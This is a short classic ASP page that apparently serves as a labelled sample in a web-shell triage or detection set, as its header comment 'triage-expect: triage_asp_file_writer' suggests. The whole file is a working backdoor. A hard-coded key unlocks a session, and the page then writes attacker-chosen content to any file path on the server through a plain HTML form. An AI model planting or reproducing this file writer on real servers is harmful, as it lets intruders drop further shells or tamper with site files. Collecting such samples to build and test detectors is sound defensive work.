<%' triage-expect: triage_asp_file_writer %>
<%
If Request("key") = "placeholder" Then Session("ok") = 1
If Session("ok") = 1 Then
  Set fs = Server.CreateObject("Scripting.FileSystemObject")
  target = Request("target")
  body = Request("body")
  If target <> "" Then
    Set f = fs.CreateTextFile(target, True)
    f.Write body
    f.Close
  End If
End If
%>
<form method="post"><input name="target"><textarea name="body"></textarea><input type="submit"></form>
